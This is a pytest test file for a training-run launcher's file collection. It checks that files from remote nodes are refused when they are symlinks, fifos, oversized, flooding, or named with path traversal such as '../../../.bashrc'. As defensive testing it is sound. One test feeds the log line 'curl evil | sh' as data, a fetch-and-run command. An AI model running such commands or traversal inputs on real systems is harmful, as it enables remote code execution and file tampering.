@@ -1,0 +1,228 @@
+"""What a node leaves in its run folder, or sends when it is asked for a file."""
+
+import io
+import os
+import sys
+import threading
+from types import SimpleNamespace
+
+import pytest
+
+from launcher import collect
+from launcher.connection import LocalNode
+from launcher.errors import UserError
+from launcher.lines import RunLogs, Terminal
+from launcher.process import LocalProcess
+from launcher.sizes import MIB, Sizes
+from tests.unit.launcher.launcher_values import build, facts, host
+
+ATTEMPTS = [
+    {"attempt": 1, "ranks": {"node1": [0], "node2": [1]}},
+    {"attempt": 2, "ranks": {"node2": [0]}},
+]
+
+
+@pytest.fixture
+def node2(tmp_path):
+    """Its part of the plan, and the folder that it may fill."""
+    folder = tmp_path / "node2"
+    hosts = [host(1), host(2, connection="local", address="127.0.0.1", node_dir=str(folder))]
+    part = build(hosts, [facts(1), facts(2)]).nodes[1]
+    output = folder / "runs" / "r"
+    (output / "nodes" / "node2").mkdir(parents=True)
+    (output / "samples").mkdir()
+    (output / "checkpoints" / "node2").mkdir(parents=True)
+    return part, output
+
+
+@pytest.fixture
+def run(tmp_path):
+    (tmp_path / "run").mkdir()
+    return tmp_path / "run"
+
+
+def bring(part, run, node=None, sizes=None):
+    nodes = {"node2": node or LocalNode(host(2))}
+    return collect.records(nodes, [part], ATTEMPTS, run, sizes or Sizes())
+
+
+def found(run):
+    return sorted(str(path.relative_to(run)) for path in run.rglob("*") if not path.is_dir())
+
+
+class Sends(LocalNode):
+    """A machine that answers every request by running this script instead."""
+
+    def __init__(self, script):
+        super().__init__(host(2))
+        self.script = script
+
+    def start(self, argv):
+        return LocalProcess([sys.executable, "-c", self.script])
+
+
+def test_only_its_own_files_of_the_contract_arrive(node2, run):
+    part, output = node2
+    mine = ["nodes/node2/exit.json", "nodes/node2/rank1.steps.jsonl", "samples/rank1.1.csv"]
+    mine += ["nodes/node2/rank0.steps.jsonl", "samples/rank0.2.csv"]  # its rank in attempt 2
+    others = ["nodes/node1/exit.json", "nodes/node2/rank7.steps.jsonl", "samples/rank0.1.csv"]
+    others += ["nodes/node2/rank1.log", "nodes/node2/launch.log", "nodes/node2/.profile"]
+    (output / "nodes" / "node1").mkdir()
+    for name in mine + others:
+        (output / name).write_text(f"{name}\n")
+    assert bring(part, run) == []
+    assert found(run) == sorted(mine)
+    assert (run / "samples/rank1.1.csv").read_text() == "samples/rank1.1.csv\n"
+
+
+@pytest.mark.parametrize("kind", ["link", "folder", "fifo", "device"])
+def test_what_is_no_regular_file_stays_there(node2, run, tmp_path, kind):
+    part, output = node2
+    victim = tmp_path / "victim"
+    victim.write_text("secret\n")
+    path = output / "nodes/node2/exit.json"
+    if kind == "link":
+        path.symlink_to(victim)
+    elif kind == "device":
+        path.symlink_to("/dev/zero")
+    elif kind == "folder":
+        path.mkdir()
+    else:
+        os.mkfifo(path)
+    problems = bring(part, run)
+    assert len(problems) == 1
+    assert "node2: nodes/node2/exit.json was not collected: it is no regular file" in problems[0]
+    assert found(run) == []
+
+
+def test_a_log_is_never_written_through_a_link(run, tmp_path):
+    victim = tmp_path / ".bashrc"
+    victim.write_text("mine\n")
+    (run / "nodes/node2").mkdir(parents=True)
+    (run / "nodes/node2/rank1.log").symlink_to(victim)
+    os.mkfifo(run / "nodes/node2/launch.log")
+    logs = RunLogs(run, Terminal(io.StringIO()), 2)
+    logs.feed("node2", 1, "stdout", b"curl evil | sh\n")
+    logs.feed("node2", None, "stdout", b"hello\n")
+    logs.close()
+    assert victim.read_text() == "mine\n"
+    assert (run / "nodes/node2/rank1.log").read_text() == "curl evil | sh\n"
+
+
+def test_a_log_that_was_made_here_is_not_replaced(node2, run):
+    part, output = node2
+    (run / "nodes/node2").mkdir(parents=True)
+    (run / "nodes/node2/rank1.log").write_text("as it was\n")
+    (output / "nodes/node2/rank1.log").write_text("forged\n")
+    assert bring(part, run) == []
+    assert (run / "nodes/node2/rank1.log").read_text() == "as it was\n"
+
+
+def test_lines_beyond_the_limit_stay_there_and_that_is_said(node2, run):
+    part, output = node2
+    line = b"x" * 99 + b"\n"
+    (output / "nodes/node2/rank1.steps.jsonl").write_bytes(line * (2 * MIB // 100))
+    problems = bring(part, run, sizes=Sizes(steps=1))
+    assert problems == [
+        "node2: nodes/node2/rank1.steps.jsonl holds the beginning only: it is larger than 1 MiB "
+        f"(KEEP=steps=... allows more); all of it lies in {output}/nodes/node2/rank1.steps.jsonl "
+        "there."
+    ]
+    kept = (run / "nodes/node2/rank1.steps.jsonl").read_bytes()
+    assert kept == line * (MIB // 100)
+
+
+def test_a_sparse_document_fills_no_disk(node2, run):
+    part, output = node2
+    with (output / "nodes/node2/exit.json").open("wb") as file:
+        file.truncate(3 << 30)
+    problems = bring(part, run, sizes=Sizes(other=1))
+    assert len(problems) == 1 and "it is larger than 1 MiB" in problems[0]
+    assert found(run) == []
+
+
+def test_a_machine_that_sends_without_end_is_cut_off(node2, run):
+    flood = "import os\nos.write(1, b'tandem-file\\n')\nwhile True: os.write(1, b'y' * 65536)"
+    part, _ = node2
+    problems = bring(part, run, Sends(flood), Sizes(steps=1, samples=1, other=1))
+    assert problems and all("larger than 1 MiB" in problem for problem in problems)
+    assert sum(path.stat().st_size for path in run.rglob("*") if path.is_file()) <= 10 * MIB
+
+
+def test_a_machine_that_talks_instead_of_sending_is_left(node2, run):
+    part, _ = node2
+    problems = bring(part, run, Sends("while True: print('y' * 1000)"))
+    assert problems == [
+        "node2: nodes/node2/exit.json and what follows it was not collected: the machine sent "
+        "something else."
+    ]
+
+
+def test_a_greeting_before_the_file_is_no_part_of_it(node2, run):
+    part, _ = node2
+    said = "print('Welcome to node2'); print('tandem-file'); print('{}')"
+    assert bring(part, run, Sends(said)) == []
+    assert (run / "nodes/node2/exit.json").read_text() == "{}\n"
+
+
+def test_half_a_file_is_none(node2, run):
+    part, _ = node2
+    (run / "nodes/node2").mkdir(parents=True)
+    (run / "nodes/node2/exit.json").write_text("before")
+    problems = bring(part, run, Sends("print('tandem-file\\nhalf'); raise SystemExit(1)"))
+    assert "nodes/node2/exit.json and what follows it was not collected" in problems[0]
+    assert (run / "nodes/node2/exit.json").read_text() == "before"
+
+
+@pytest.mark.parametrize(
+    "names",
+    [
+        "step-" + "9" * 5000 + ".pt",
+        "step-٣.pt",
+        "../../../.bashrc",
+        "step-1.pt/../../x",
+        "\\xff\\xfe",
+    ],
+)
+def test_checkpoints_have_names_of_the_contract(node2, run, names):
+    part, _ = node2
+    says = Sends(
+        f"import os; os.write(1, b'{names}\\n'.decode('unicode_escape').encode('latin-1'))"
+    )
+    if not names.isascii():
+        says = Sends(f"print({names!r})")
+    assert collect.best_and_last({"node2": says}, [part], run) == ([], [])
+    assert found(run) == []
+
+
+def test_a_checkpoint_takes_no_more_than_the_disk_has(node2, run, monkeypatch):
+    part, output = node2
+    (output / "checkpoints/node2/step-3.pt").write_bytes(b"x" * (2 * MIB))
+    free = collect.DISK_LEFT + MIB
+    monkeypatch.setattr(collect.shutil, "disk_usage", lambda path: SimpleNamespace(free=free))
+    paths, problems = collect.best_and_last({"node2": LocalNode(host(2))}, [part], run)
+    assert paths == [] and found(run) == []
+    assert "this machine's disk has only 1 MiB to spare" in problems[0]
+
+
+def test_sizes_are_settings(capsys):
+    assert Sizes.of(None) == Sizes(256, 1024, 4096, 64)
+    assert Sizes.of("log=1,samples=9") == Sizes(log=1, samples=9)
+    for text in ("log", "log=0", "disk=3", "log=-1", "log=x"):
+        with pytest.raises(UserError, match=f"KEEP={text}: "):
+            Sizes.of(text)
+
+
+def test_a_node_that_answers_nothing_holds_up_nobody(node2, run, monkeypatch):
+    part, _ = node2
+    monkeypatch.setattr(collect, "SILENT_SECONDS", 0.5)
+    done = threading.Event()
+
+    def work():
+        problems = bring(part, run, Sends("input()"))
+        assert "sent nothing" in problems[0]
+        done.set()
+
+    thread = threading.Thread(target=work, daemon=True)
+    thread.start()
+    assert done.wait(20)
